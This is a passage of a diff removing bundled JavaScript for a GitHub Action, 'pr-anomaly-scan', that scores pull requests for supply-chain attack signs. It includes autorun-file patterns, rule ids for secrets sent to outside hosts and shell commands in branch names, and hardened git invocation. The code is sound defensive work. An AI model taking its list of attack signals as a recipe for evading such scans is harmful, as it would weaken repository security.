-        const pinned = u.kind === 'docker' ? Boolean(u.ref) : Boolean(u.ref && FULL_SHA.test(u.ref));
-        if (!pinned) {
-            findings.push(createFinding(rules_RULES.WF_UNPINNED, {
-                message: `\`${u.raw}\` is not pinned to a commit SHA.`,
-                evidence: u.raw,
-                location: { file, line: u.line, column: u.column }
-            }));
-        }
-    }
-    return { findings };
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/engine.ts
-// The PR scan: diff base...head (streamed, through the injected GitIO), run
-// every rule family on what the PR adds, then the metadata and API checks.
-// Pure over its inputs: git and the API client are injected; suppressions
-// are returned for the shared runner to apply, and the risk score is derived
-// from what stands after them (main.ts, summarise).
-
-
-
-
-
-
-
-
-
-
-const isWorkflowRule = (id) => rules_REGISTRY.get(id)?.group === 'workflow';
-const WORKFLOW = /^\.github\/workflows\/[^/]+\.ya?ml$|(^|\/)action\.ya?ml$/;
-const AUTORUN = /(^|\/)\.vscode\/tasks\.json$|(^|\/)\.devcontainer(\/[^/]+)?\/devcontainer\.json$|(^|\/)\.devcontainer\.json$|(^|\/)\.(claude|gemini|cursor|codex)\/[^/]*\.json$|(^|\/)\.mcp\.json$/;
-/** Files bigger than this are not read whole for the YAML/JSON/manifest rules. */
-const MAX_WHOLE_FILE = 2 * 1024 * 1024;
-/** The diff checks that do not run when the diff cannot be read. */
-const DIFF_CHECKS = ['workflow', 'build', 'binary', 'obfuscation', 'unicode', 'deps', 'secrets'];
-async function scanPr(opts) {
-    const { git } = opts;
-    const findings = [];
-    const notChecked = [];
-    const errors = [];
-    const notes = [];
-    const stats = {};
-    // The ignores the PR adds come first: on a line both cover, theirs is the one reported.
-    const added = [];
-    const workflowSuppressions = [];
-    let files = [];
-    let commits = [];
-    let textLines = 0;
-    try {
-        const head = await git.resolveCommit(opts.head, 'head');
-        const base = await git.resolveCommit(opts.base, 'base');
-        const from = await git.mergeBase(base, head);
-        // The file list, the commits and the patch stream run at once; the patch is analysed one file at a time.
-        const secrets = new SecretCollector();
-        const inline = new Map();
-        let truncatedFiles = 0;
-        const onText = (f) => {
-            textLines += f.added.length;
-            if (f.addedTruncated)
-                truncatedFiles++;
-            const all = f.added.map((l) => l.text).join('\n');
-            const ignores = all.includes('pr-anomaly-scan:') ? inlineIgnores(f.added) : [];
-            if (ignores.length)
-                inline.set(f.path, ignores);
-            findings.push(...scanAddedText(f, all));
-            secrets.add(f.path, f.added, all);
-        };
-        [files, commits] = await Promise.all([
-            git.listChanges(from, head),
-            git.listCommits(from, head),
-            git.streamAddedLines(from, head, onText)
-        ]);
-        stats['files changed'] = files.length;
-        stats.commits = commits.length;
-        stats['added lines'] = textLines;
-        if (truncatedFiles)
-            notes.push(`${truncatedFiles} file(s) added more than 8 MiB of text; only the first 8 MiB of each was scanned for content rules.`);
-        // 2. Whole files for the structured rules (workflows, manifests, IDE files), base and head.
-        const whole = files.filter((f) => f.status !== 'deleted' &&
-            !f.binary &&
-            (WORKFLOW.test(f.path) || isDependencyFile(f.path) || AUTORUN.test(f.path)));
-        const texts = await git.readTexts(whole.flatMap((f) => [f.oldSha, f.newSha]), MAX_WHOLE_FILE);
-        for (const f of whole) {
-            const headText = texts.get(f.newSha);
-            if (headText === undefined) {
-                notes.push(`${f.path}: larger than ${MAX_WHOLE_FILE / 1024 / 1024} MiB, structured checks skipped.`);
-                continue;
-            }
-            const baseText = isNullSha(f.oldSha) ? undefined : texts.get(f.oldSha);
-            if (WORKFLOW.test(f.path)) {
-                const r = scanWorkflow(f.path, baseText, headText);
-                if (r.error)
-                    errors.push(r.error);
-                findings.push(...r.findings);
-                // Ignores anywhere in a workflow cover its workflow findings, not only ignores the PR adds.
-                const ig = inlineIgnores(headText.split('\n').map((text, i) => ({ line: i + 1, text })));
-                workflowSuppressions.push(...inlineSuppressions(f.path, ig, isWorkflowRule));
-            }
-            else if (isDependencyFile(f.path)) {
-                const r = scanDependencies(f.path, baseText, headText);
-                if (r.error)
-                    errors.push(r.error);
-                findings.push(...r.findings);
-            }
-            else {
-                findings.push(...autorunFindings(f.path, headText));
-            }
-        }
-        // 3. Binaries: magic, entropy and size, streamed.
-        const binaries = files.filter((f) => f.binary && f.status !== 'deleted' && !isNullSha(f.newSha) && f.newMode !== '160000');
-        const facts = new Map();
-        const oldSizes = await git.blobSizes(binaries.map((f) => f.oldSha));
-        await collectFacts(git, binaries, facts, errors);
-        // A "binary" without a NUL byte is text that `.gitattributes` (`-diff`, `binary`) hides from the diff,
-        // which a PR controls: its added lines get the text rules too.
-        const hidden = binaries.filter((f) => facts.get(f.newSha) && !facts.get(f.newSha).hasNul && facts.get(f.newSha).size <= MAX_WHOLE_FILE * 4);
-        if (hidden.length) {
-            await git.streamAddedLines(from, head, onText, hidden.map((f) => f.path));
-            notes.push(`${hidden.length} text file(s) marked binary by .gitattributes were scanned as text: ${hidden
-                .slice(0, 5)
-                .map((f) => f.path)
-                .join(', ')}.`);
-        }
-        for (const f of binaries) {
-            const fact = facts.get(f.newSha);
-            if (!fact || hidden.includes(f))
-                continue;
-            try {
-                findings.push(...(await scanBinary({ file: f, facts: fact, oldSize: oldSizes.get(f.oldSha) })));
-            }
-            catch (e) {
-                errors.push(`${f.path}: ${oneLine(e)}`);
-            }
-        }
-        const textChanged = hidden.length > 0 || files.some((f) => !f.binary && (f.addedCount || f.deletedCount));
-        const changedBinaries = binaries.filter((f) => (f.status === 'modified' || f.status === 'added') && !hidden.includes(f));
-        if (changedBinaries.length && !textChanged) {
-            const first = changedBinaries[0];
-            findings.push(createFinding(rules_RULES.BIN_ONLY, {
-                message: `${changedBinaries.length} binary file(s) ${changedBinaries.some((f) => f.status === 'modified') ? 'changed' : 'added'} and no text line changed: ${changedBinaries
-                    .slice(0, 5)
-                    .map((f) => f.path)
-                    .join(', ')}.`,
-                location: { file: first.path },
-                evidence: changedBinaries
-                    .slice(0, 5)
-                    .map((f) => f.path)
-                    .join(', '),
-                severity: changedBinaries.some((f) => f.status === 'modified') ? 'high' : 'medium',
-                key: changedBinaries.map((f) => f.newSha).join(','),
-                properties: { contentSha256: facts.get(first.newSha)?.sha256 }
-            }));
-        }
-        stats['binary files'] = binaries.length;
-        // 4. Governance files.
-        findings.push(...governanceFindings(files.map((f) => f.path), opts.configPath));
-        // 5. Inline suppressions, for the runner to apply; each one the PR adds is itself reported.
-        for (const [file, ignores] of inline) {
-            added.push(...inlineSuppressions(file, ignores));
-            for (const bad of ignores.filter((i) => !i.reason))
-                notes.push(`${file}:${bad.line}: inline ignore without a reason is not applied (write \`pr-anomaly-scan: ignore[rule-id] reason\`).`);
-            for (const ig of ignores.filter((i) => i.reason)) {
-                findings.push(createFinding(rules_RULES.META_SUPPRESSION, {
-                    message: `The PR adds \`ignore[${ig.rules.join(',')}]\`: ${ig.reason}`,
-                    location: { file, line: ig.line },
-                    evidence: `ignore[${ig.rules.join(',')}] ${ig.reason}`
-                }));
-            }
-        }
-        try {
-            findings.push(...(await secrets.scan()));
-            if (secrets.truncated)
-                notes.push('More than 8 MiB of token-like lines: the secret scan covered the first 8 MiB.');
-        }
-        catch (e) {
-            notChecked.push({ check: rules_RULES.SECRET.id, reason: `secretlint failed: ${oneLine(e)}` });
-        }
-    }
-    catch (e) {
-        if (!(e instanceof UserError))
-            throw e;
-        errors.push(oneLine(e));
-        for (const check of DIFF_CHECKS)
-            notChecked.push({ check, reason: `the diff could not be read: ${oneLine(e)}` });
-    }
-    // 6. Metadata and the API.
-    findings.push(...refFindings(opts.meta));
-    const sensitive = files.filter((f) => isSensitive(f.path) || f.binary).map((f) => f.path);
-    const lines = files.reduce((n, f) => n + f.addedCount + f.deletedCount, 0);
-    let client;
-    let noTokenReason = opts.noTokenReason;
-    try {
-        client = opts.meta.author ? await opts.client?.() : undefined;
-    }
-    catch (e) {
-        noTokenReason = oneLine(e);
-    }
-    const api = await apiChecks(client, opts.meta, {
-        trustedOrgs: opts.trustedOrgs,
-        commits,
-        diff: { files: files.length, lines, sensitive },
-        budget: 6,
-        noTokenReason
-    });
-    findings.push(...api.findings);
-    notChecked.push(...api.notChecked);
-    notes.push(...api.notes);
-    return {
-        rules: rules_REGISTRY.list(),
-        findings,
-        notChecked,
-        errors,
-        notes,
-        stats,
-        suppressions: [...added, ...workflowSuppressions],
-        target: `${opts.base}...${opts.head}`
-    };
-}
-async function collectFacts(git, binaries, facts, errors) {
-    await git
-        .streamBlobs([...new Set(binaries.map((f) => f.newSha))], (sha) => {
-        const a = new BlobAnalyser();
-        return { chunk: (b) => a.chunk(b), end: () => void facts.set(sha, a.facts()) };
-    })
-        .catch((e) => errors.push(oneLine(e)));
-}
-
-;// CONCATENATED MODULE: external "node:child_process"
-const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/git.ts
-// Reads a PR's changes from a local checkout with git, streaming, without ever
-// running anything the PR controls: git is spawned with an argv array (no
-// shell), hooks, fsmonitor, external diff drivers and textconv filters off.
-
-
-
-/** Options that stop repository config (which a PR cannot change, but a poisoned cache could) from running programs. */
-const SAFE = [
-    '-c',
-    'core.fsmonitor=',
-    '-c',
-    'core.hooksPath=/dev/null',
-    '-c',
-    'diff.external=',
-    '-c',
-    'core.quotePath=true',
-    '-c',
-    'core.bigFileThreshold=64m',
-    '-c',
-    'diff.renameLimit=2000',
-    '--literal-pathspecs'
-];
-const DIFF_FLAGS = ['--no-ext-diff', '--no-textconv', '--no-color', '-M', '--src-prefix=a/', '--dst-prefix=b/'];
-const GIT_ENV = { GIT_TERMINAL_PROMPT: '0', GIT_OPTIONAL_LOCKS: '0', GIT_CONFIG_NOSYSTEM: '1', LC_ALL: 'C' };
-/** Longest added line kept whole; longer ones are cut (a minified bundle line can be megabytes). */
-const MAX_LINE = 256 * 1024;
-/** Added text kept per file for the content rules; the rest is counted, not kept. */
-const MAX_ADDED_PER_FILE = 8 * 1024 * 1024;
-/** Runs git, feeding stdout chunks to `onData`; resolves when it exits. */
-function git(repo, args, onData, stdin) {
-    return new Promise((resolve, reject) => {
-        const child = (0,external_node_child_process_namespaceObject.spawn)('git', ['-C', repo, ...SAFE, ...args], {
-            env: { ...process.env, ...GIT_ENV },
-            stdio: ['pipe', 'pipe', 'pipe']
-        });
-        let stderr = '';
-        child.stdout.on('data', (b) => onData?.(b));
-        child.stderr.on('data', (b) => {
-            if (stderr.length < 4096)
-                stderr += b.toString();
-        });
-        child.on('error', (e) => reject(new UserError(`cannot run git: ${e.message}`)));
-        child.on('close', (code) => resolve({ code, stderr: stderr.trim() }));
-        child.stdin.on('error', () => undefined);
-        child.stdin.end(stdin ?? '');
-    });
-}
-async function gitText(repo, args) {
-    const chunks = [];
-    const r = await git(repo, args, (b) => chunks.push(b));
-    return { ...r, out: Buffer.concat(chunks).toString('utf8') };
-}
-/** The commit a ref names, or a UserError saying why it is not there. */
-async function resolveCommit(repo, ref, what) {
-    if (!ref || ref.startsWith('-'))
-        throw new UserError(`${what}: '${ref}' is not a commit reference`);
-    const r = await gitText(repo, ['rev-parse', '--verify', '--quiet', '--end-of-options', `${ref}^{commit}`]);
-    if (r.code === 0)
-        return r.out.trim();
-    const inside = await gitText(repo, ['rev-parse', '--is-inside-work-tree']);
-    if (inside.code !== 0)
-        throw new UserError(`${repo} is not a git checkout (${inside.stderr.split('\n')[0] || 'git rev-parse failed'})`);
-    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
-    throw new UserError(`${what} commit '${ref}' is not in the checkout${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
-}
-/** The merge base, so the diff is what the PR adds (`base...head`). */
-async function mergeBase(repo, base, head) {
-    const r = await gitText(repo, ['merge-base', base, head]);
-    if (r.code === 0)
-        return r.out.trim();
-    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
-    throw new UserError(`no common ancestor of base ${base.slice(0, 12)} and head ${head.slice(0, 12)}${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
-}
-/** Per-file status from `git diff --raw --numstat -z`. */
-async function listChanges(repo, from, to) {
-    const chunks = [];
-    const res = await git(repo, ['diff', '--raw', '--no-abbrev', '--numstat', '-z', ...DIFF_FLAGS, from, to, '--'], (b) => chunks.push(b));
-    if (res.code !== 0)
-        throw new UserError(`git diff failed: ${res.stderr.split('\n')[0]}`);
-    const tokens = Buffer.concat(chunks).toString('utf8').split('\0');
-    const files = [];
-    let i = 0;
-    for (; i < tokens.length && tokens[i].startsWith(':');) {
-        const [oldMode, newMode, oldSha, newSha, st] = tokens[i].slice(1).split(' ');
-        const code = st[0];
-        const two = code === 'R' || code === 'C';
-        const oldPath = tokens[i + 1];
-        const path = two ? tokens[i + 2] : oldPath;
-        i += two ? 3 : 2;
-        const status = code === 'A'
-            ? 'added'
-            : code === 'D'
-                ? 'deleted'
-                : code === 'R'
-                    ? 'renamed'
-                    : code === 'C'
-                        ? 'copied'
-                        : code === 'T'
-                            ? 'typechange'
-                            : 'modified';
-        files.push({
-            status,
-            path,
-            oldPath: two ? oldPath : undefined,
-            oldMode,
-            newMode,
-            oldSha,
-            newSha,
-            binary: false,
-            addedCount: 0,
-            deletedCount: 0
-        });
-    }
-    // numstat follows in the same order: `A\tD\tpath` or `A\tD\t` + old + new for renames.
-    for (const f of files) {
-        const t = tokens[i];
-        if (t === undefined)
-            break;
-        const [a, d, p] = t.split('\t');
-        i += p === '' ? 3 : 1;
-        f.binary = a === '-' && d === '-';
-        f.addedCount = Number(a) || 0;
-        f.deletedCount = Number(d) || 0;
-    }
-    return files;
-}
-/** Splits a byte stream into lines, keeping at most MAX_LINE bytes of each. */
-class LineSplitter {
-    onLine;
-    parts = [];
-    kept = 0;
-    cut = false;
-    constructor(onLine) {
-        this.onLine = onLine;
-    }
-    push(b) {
-        let start = 0;
-        for (let nl = b.indexOf(10, start); nl >= 0; nl = b.indexOf(10, start)) {
-            if (!this.parts.length && nl - start <= MAX_LINE) {
-                this.onLine(b.toString('utf8', start, nl), false); // the common case: a whole line inside one chunk, no copy
-            }
-            else {
-                this.take(b.subarray(start, nl));
-                this.flush();
-            }
-            start = nl + 1;
-        }
-        if (start < b.length)
-            this.take(b.subarray(start));
-    }
-    end() {
-        if (this.kept || this.parts.length)
-            this.flush();
-    }
-    take(b) {
-        const room = MAX_LINE - this.kept;
-        if (b.length > room)
-            this.cut = true;
-        const part = b.length > room ? b.subarray(0, room) : b;
-        if (part.length) {
-            this.parts.push(Buffer.from(part));
-            this.kept += part.length;
-        }
-    }
-    flush() {
-        const line = this.parts.length === 1 ? this.parts[0].toString('utf8') : Buffer.concat(this.parts).toString('utf8');
-        this.onLine(line, this.cut);
-        this.parts = [];
-        this.kept = 0;
-        this.cut = false;
-    }
-}
-/** Undoes git's C-style quoting of unusual paths (`"caf\303\251.py"`). */
-function unquotePath(s) {
-    if (!s.startsWith('"'))
-        return s;
-    const bytes = [];
-    const esc = { n: 10, t: 9, r: 13, a: 7, b: 8, f: 12, v: 11, '"': 34, '\\': 92 };
-    for (let i = 1; i < s.length - 1; i++) {
-        const c = s[i];
-        if (c !== '\\') {
-            bytes.push(...Buffer.from(c, 'utf8'));
-            continue;
-        }
-        const n = s[++i];
-        if (/[0-7]/.test(n)) {
-            bytes.push(parseInt(s.slice(i, i + 3), 8));
-            i += 2;
-        }
-        else
-            bytes.push(esc[n] ?? n.charCodeAt(0));
-    }
-    return Buffer.from(bytes).toString('utf8');
-}
-/**
- * Streams the added lines of every text file in `from..to` (`-U0` patch) and
- * calls `onFile` as each file's section ends, so memory holds one file at a time.
- */
-async function streamAddedLines(repo, from, to, onFile, 
-/** Diff only these paths, as text whatever the attributes say (`--text`). */
-asText) {
-    let current;
-    let nextLine = 0;
-    let kept = 0;
-    const finish = () => {
-        if (current) {
-            onFile(current); // analysed there; nothing here keeps the text
-        }
-        current = undefined;
-    };
-    const splitter = new LineSplitter((line, cut) => {
-        const c = line.charCodeAt(0);
-        if (current && c === 43 /* + */ && !line.startsWith('+++ ')) {
-            if (kept + line.length <= MAX_ADDED_PER_FILE) {
-                current.added.push(cut ? { line: nextLine, text: line.slice(1), cut } : { line: nextLine, text: line.slice(1) });
-                kept += line.length;
-            }
-            else
-                current.addedTruncated = true;
-            nextLine++;
-        }
-        else if (line.startsWith('@@ ')) {
-            const m = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,\d+)? @@/.exec(line);
-            if (m)
-                nextLine = Number(m[1]);
-        }
-        else if (line.startsWith('diff --git ')) {
-            finish();
-        }
-        else if (line.startsWith('+++ ')) {
-            const p = line.slice(4).replace(/\t$/, ''); // git appends a tab to names with spaces
-            if (p !== '/dev/null') {
-                const path = unquotePath(p).replace(/^b\//, '');
-                current = { path, added: [], addedTruncated: false };
-                kept = 0;
-            }
-        }
-    });
-    const args = asText
-        ? ['diff', '-p', '-U0', '--text', ...DIFF_FLAGS, from, to, '--', ...asText]
-        : ['diff', '-p', '-U0', ...DIFF_FLAGS, from, to, '--'];
-    const res = await git(repo, args, (b) => splitter.push(b));
-    splitter.end();
-    finish();
-    if (res.code !== 0)
-        throw new UserError(`git diff failed: ${res.stderr.split('\n')[0]}`);
-}
-/**
- * Streams blobs through `git cat-file --batch`; `open` is called per blob with
- * its size and returns where the bytes go. A 1 GB blob never sits in memory.
- */
-async function streamBlobs(repo, shas, open) {
-    if (!shas.length)
-        return;
-    let header = [];
-    let sink;
-    let left = -1; // bytes of the current blob still to come; -1: reading a header; -2: skipping the newline after a blob
-    const onData = (b) => {
-        let i = 0;
-        while (i < b.length) {
-            if (left === -2) {
-                i++; // the newline git prints after each blob
-                left = -1;
-                continue;
-            }
-            if (left === -1) {
-                const nl = b.indexOf(10, i);
-                if (nl < 0) {
-                    header.push(b.subarray(i));
-                    return;
-                }
-                header.push(b.subarray(i, nl));
-                const h = Buffer.concat(header).toString('utf8');
-                header = [];
-                i = nl + 1;
-                const [sha, type, size] = h.split(' ');
-                if (type === 'missing' || size === undefined)
-                    continue;
-                left = Number(size);
-                sink = open(sha, left);
-                if (left === 0) {
-                    sink?.end();
-                    left = -2;
-                }
-                continue;
-            }
-            const n = Math.min(left, b.length - i);
-            sink?.chunk(b.subarray(i, i + n));
-            i += n;
-            left -= n;
-            if (left === 0) {
-                sink?.end();
-                left = -2;
-            }
-        }
-    };
-    const res = await git(repo, ['cat-file', '--batch'], onData, shas.join('\n') + '\n');
-    if (res.code !== 0)
-        throw new UserError(`git cat-file failed: ${res.stderr.split('\n')[0]}`);
-}
-/** Whole text of small blobs (workflows, manifests), keyed by sha; larger ones are skipped. */
-async function readTexts(repo, shas, maxBytes) {
-    const out = new Map();
-    await streamBlobs(repo, [...new Set(shas.filter((s) => !isNullSha(s)))], (sha, size) => {
-        if (size > maxBytes)
-            return undefined;
-        const parts = [];
-        return { chunk: (b) => parts.push(Buffer.from(b)), end: () => out.set(sha, Buffer.concat(parts).toString('utf8')) };
-    });
-    return out;
-}
-async function listCommits(repo, from, to, max = 250) {
-    const r = await gitText(repo, [
-        'log',
-        '--no-show-signature',
-        `--max-count=${max}`,
-        '--format=%H%x00%an%x00%ae%x00%cn%x00%ce%x00%s%x1e',
-        `${from}..${to}`,
-        '--'
-    ]);
-    if (r.code !== 0)
-        return [];
-    return r.out
-        .split('\x1e')
-        .map((s) => s.trim())
-        .filter(Boolean)
-        .map((s) => {
-        const [sha, authorName, authorEmail, committerName, committerEmail, subject] = s.split('\0');
-        return { sha, authorName, authorEmail, committerName, committerEmail, subject };
-    });
-}
-/** Sizes of blobs without reading them (`cat-file --batch-check`). */
-async function blobSizes(repo, shas) {
-    const out = new Map();
-    const want = [...new Set(shas.filter((s) => !isNullSha(s)))];
-    if (!want.length)
-        return out;
-    const chunks = [];
-    await git(repo, ['cat-file', '--batch-check'], (b) => chunks.push(b), want.join('\n') + '\n');
-    for (const line of Buffer.concat(chunks).toString('utf8').split('\n')) {
-        const [sha, type, size] = line.split(' ');
-        if (type === 'blob')
-            out.set(sha, Number(size));
-    }
-    return out;
-}
-/** A file's text at a commit, or undefined when it does not exist there. */
-async function readFileAt(repo, commit, path) {
-    const r = await gitText(repo, ['cat-file', 'blob', `${commit}:${path}`]);
-    return r.code === 0 ? r.out : undefined;
-}
-/** The GitIO of the checkout at `repo`: what main.ts hands the engine. */
-function gitCheckout(repo) {
-    return {
-        resolveCommit: (ref, what) => resolveCommit(repo, ref, what),
-        mergeBase: (base, head) => mergeBase(repo, base, head),
-        listChanges: (from, to) => listChanges(repo, from, to),
-        listCommits: (from, to, max) => listCommits(repo, from, to, max),
-        streamAddedLines: (from, to, onFile, asText) => streamAddedLines(repo, from, to, onFile, asText),
-        readTexts: (shas, maxBytes) => readTexts(repo, shas, maxBytes),
-        blobSizes: (shas) => blobSizes(repo, shas),
-        streamBlobs: (shas, open) => streamBlobs(repo, shas, open),
-        readFileAt: (commit, path) => readFileAt(repo, commit, path)
-    };
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/score.ts
-// The PR's 0-10 risk score: each finding weighs severity × confidence, weak
-// signals are capped so a pile of them cannot look like an attack, and chains
-// of families that make up an attack (GuardDog v3's "capability + threat")
-// add on top: obfuscation + execution, a build change + network, a new
-// workflow + secrets + an outside host.
-
-
-const SEVERITY = { critical: 4, high: 2.5, medium: 1.2, low: 0.4, info: 0.1 };
-const CONFIDENCE = { high: 1, medium: 0.7, low: 0.35 };
-/** Most that low-specificity findings (low/info severity or low confidence) can add together. */
-const WEAK_CAP = 1;
-function riskScore(findings) {
-    const active = findings.filter(isActive);
-    let strong = 0;
-    let weak = 0;
-    for (const f of active) {
-        const w = SEVERITY[f.severity] * CONFIDENCE[f.confidence];
-        if (f.severity === 'low' || f.severity === 'info' || f.confidence === 'low')
-            weak += w;
-        else
-            strong += w;
-    }
-    const family = (f) => rules_REGISTRY.get(f.ruleId)?.group;
-    const has = (pred) => active.some(pred);
-    const chains = [];
-    if (has((f) => f.ruleId === 'obfuscation/encoded-exec' || f.ruleId === 'obfuscation/bundled-js-payload') ||
-        (has((f) => family(f) === 'obfuscation') &&
-            has((f) => f.ruleId === 'build/import-time-process' || f.ruleId === 'build/setup-py'))) {
-        chains.push('obfuscated data reaches code execution');
-    }
-    if (has((f) => family(f) === 'build' && f.properties?.network === true) ||
-        (has((f) => family(f) === 'build') && has((f) => f.ruleId === 'workflow/secrets-to-outside-host'))) {
-        chains.push('build change with network access');
-    }
-    if (has((f) => f.ruleId === 'workflow/secrets-to-outside-host') ||
-        (has((f) => f.ruleId === 'workflow/all-secrets') && has((f) => f.ruleId === 'workflow/dangerous-trigger'))) {
-        chains.push('workflow sends secrets out');
-    }
-    if (has((f) => family(f) === 'binary') && has((f) => f.ruleId === 'build/autotools'))
-        chains.push('opaque test data with a build-script change (xz)');
-    if (has((f) => f.ruleId === 'meta/branch-name-shell' && f.severity === 'critical'))
-        chains.push('command in branch name');
-    const raw = strong + Math.min(weak, WEAK_CAP) + 2.5 * chains.length;
-    // Saturating: the first strong signals move the score most; 10 is reserved for chained evidence.
-    const score = Math.round(Math.min(10, 10 * (1 - Math.exp(-raw / 5))) * 10) / 10;
-    const band = score === 0 ? 'none' : score < 2 ? 'low' : score < 5 ? 'elevated' : score < 8 ? 'high' : 'critical';
-    return { score, band, chains };
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/config.schema.json
-const pr_anomaly_scan_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'pr-anomaly-scan\' section of .github/security-actions.yml","description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object","additionalProperties":false,"properties":{"allow":{"description":"Known fixtures and lines, matched on the SHA-256 of a binary file\'s content or of a finding\'s trimmed source line (`contentSha256` in the JSON report). Each needs a reason; one with an expiry date stops applying after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["sha256","reason"],"properties":{"sha256":{"description":"The content hash: 64 lower-case hex digits.","type":"string","pattern":"^[0-9a-f]{64}$"},"reason":{"description":"Why this content is safe; shown in every report.","type":"string","minLength":1,"pattern":"\\\\S"},"rule":{"description":"Only findings of this rule id (default: any rule).","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"expires":{"description":"Last day (YYYY-MM-DD) the entry applies.","type":"string","pattern":"^\\\\d{4}-(0[1-9]|1[0-2])-(0[1-9]|[12]\\\\d|3[01])$"}}}}}}');
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/main.ts
-// pr-anomaly-scan adapter: read the inputs and event, call the engine, and
-// keep one PR comment up to date.
-
-
-
-
-
-
-
-
-
-const COMMENT_MARKER = 'security-actions:pr-anomaly-scan';
-function scorePreamble(s) {
-    const chains = s.chains.length ? ` Chained signals: ${s.chains.join('; ')}.` : '';
-    return `**Risk score: ${s.score}/10 (${s.band}).**${chains}`;
-}
-/**
- * The workspace holds the PR's version of the config file, so a PR could ignore its own findings. The
- * scan applies the base commit's config instead; the adapter applies the config `run()` returns.
- */
-async function baseConfig(ctx, git, base, path) {
-    const current = ctx.config;
-    let text;
-    try {
-        text = await git.readFileAt(await git.resolveCommit(base, 'base'), path);
-    }
-    catch {
-        return { config: current, notes: [] }; // the scan reports the missing base itself
-    }
-    if (current === EMPTY_CONFIG) {
-        return {
-            config: current,
-            notes: text === undefined ? [] : [`${path} exists at the base but not in the workspace; it was not applied.`]
-        };
-    }
-    try {
-        const config = text === undefined ? { ...EMPTY_CONFIG, file: current.file } : parseConfig(text, path);
-        const changed = JSON.stringify(config) !== JSON.stringify(current);
-        return {
-            config,
-            notes: changed ? [`The PR changes ${path}; the base commit's version was applied to this scan.`] : []
-        };
-    }
-    catch (e) {
-        return {
-            config: { ...EMPTY_CONFIG, file: current.file },
-            notes: [`${path} at the base is invalid (${oneLine(e)}); no ignores were applied.`]
-        };
-    }
-}
-const main_definition = {
-    name: 'pr-anomaly-scan',
-    rules: rules_REGISTRY,
-    configSchema: pr_anomaly_scan_config_schema_namespaceObject,
-    async run(ctx) {
-        const { inputs } = ctx;
-        const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
-        const base = inputs.string('base') || meta.baseSha || '';
-        const head = inputs.string('head') || meta.headSha || 'HEAD';
-        const git = gitCheckout((0,external_node_path_.resolve)(ctx.workspace, inputs.string('path', { default: '.' })));
-        const trustedOrgs = inputs.list('trusted-orgs');
-        inputs.boolean('comment', false);
-        const token = inputs.string('token');
-        if (!base)
-            throw new UserError("Input 'base' is required outside pull_request events (the base commit of the comparison).");
-        const { config, notes } = await baseConfig(ctx, git, base, inputs.string('config') || DEFAULT_CONFIG_PATH);
-        const result = await scanPr({
-            git,
-            base,
-            head,
-            meta,
-            client: token ? () => ctx.github(token) : undefined,
-            noTokenReason: token ? undefined : 'no token given',
-            trustedOrgs,
-            configPath: config.file ?? DEFAULT_CONFIG_PATH
-        });
-        return {
-            ...result,
-            notes: [...notes, ...(result.notes ?? [])],
-            suppressions: [...(result.suppressions ?? []), ...allowSuppressions(config)],
-            config
-        };
-    },
-    // The score weighs what stands after the config and every suppression, so an allowed fixture adds nothing.
-    summarise(report) {
-        const score = riskScore(report.findings);
-        return {
-            outputs: { 'risk-score': String(score.score) },
-            stats: { 'risk score': `${score.score}/10` },
-            preamble: scorePreamble(score)
-        };
-    },
-    async publish(ctx, report, _markdown) {
-        if (!ctx.inputs.boolean('comment', false))
-            return;
-        const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
-        const token = ctx.inputs.string('token');
-        if (!meta.number || !meta.repo)
-            return ['PR comment not posted: no pull_request event payload.'];
-        if (!token)
-            return ['PR comment not posted: no token given.'];
-        const client = await ctx.github(token);
-        // The scan's API calls come first; the comment gets what is left of the per-PR budget.
-        const budget = MAX_REQUESTS - client.stats.requests;
-        if (budget < 2)
-            return [`PR comment not posted: the ${MAX_REQUESTS}-request API budget is used up.`];
-        const [owner, repo] = meta.repo.split('/');
-        const body = renderMarkdown(report, {
-            marker: COMMENT_MARKER,
-            maxChars: COMMENT_LIMIT,
-            preamble: scorePreamble(riskScore(report.findings)),
-            fullReport: 'the job summary and the JSON report artifact'
-        });
-        try {
-            const target = { kind: 'comment', owner, repo, issue: meta.number, maxPages: Math.min(3, budget - 1) };
-            const r = await upsertMarked(client.rest, target, COMMENT_MARKER, body);
-            return [r.action === 'updated' ? `Updated the PR comment ${r.id}.` : `Posted PR comment ${r.id}.`];
-        }
-        catch (e) {
-            return [`PR comment not posted: ${describeApiError(e, 'pull-requests: write')}`];
-        }
-    }
-};
-async function main_run(runtime) {
-    await runAction(main_definition, runtime ?? (await actionsRuntime()));
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/commands/pr-scan.ts
-
-
-const prScan = {
-    summary: 'flag changes between two commits that look like an attack (reads git only, runs nothing)',
-    usage: '--base REF [--head REF] [--repo PATH] [options]',
-    checkout: true,
-    checks: [
-        {
-            definition: main_definition,
-            // No token locally: the API checks (author history, commit verification) are reported as not checked.
-            fixed: { token: '', comment: 'false' },
-            inputs: { base: 'base', head: 'head' }
-        }
-    ],
-    options: {
-        base: { type: 'string', value: 'REF', required: true, help: 'base commit or ref of the comparison' },
-        head: { type: 'string', value: 'REF', help: 'head commit or ref (default: HEAD)' },
-        ...REPO_OPTION,
-        ...REPORT_OPTIONS
-    },
-    notes: ['The risk score (0-10) is printed with the figures, above the verdict.']
-};
-
-// EXTERNAL MODULE: ./node_modules/@sigstore/bundle/dist/index.js
-var bundle_dist = __nccwpck_require__(1040);
-// EXTERNAL MODULE: ./node_modules/@sigstore/core/dist/index.js
